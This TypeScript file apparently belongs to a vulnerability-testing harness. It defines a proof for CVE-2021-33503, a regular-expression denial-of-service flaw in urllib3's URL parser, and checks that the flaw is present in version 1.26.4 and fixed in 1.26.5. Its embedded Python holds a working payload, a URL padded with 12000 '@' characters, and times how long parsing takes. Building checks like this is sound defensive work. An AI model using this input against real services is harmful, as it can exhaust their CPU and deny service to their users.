import { defineProof } from '../define-proof.ts';

/** Takes an address with very many at signs apart and takes the time. */
export const urllib3AuthorityTime = defineProof({
  name: 'urllib3-authority-time',
  ids: ['CVE-2021-33503', 'GHSA-q2q7-5pp4-w6pg', 'PYSEC-2021-108'],
  ecosystem: 'PyPI',
  package: 'urllib3',
  modules: ['urllib3'],
  kind: 'redos',
  describes: 'Takes an address with very many at signs apart and takes the time.',
  shownOn: { vulnerable: '1.26.4', fixed: '1.26.5' },
  source: `
from urllib3.util import parse_url


def proof(tools):
    def run():
        try:
            parse_url("https://" + "@" * 12000 + "[")
        except Exception:
            pass

    return tools.cpu_ms(run) > 1000, parse_url("https://registry.example.test/a").path == "/a"
`,
});
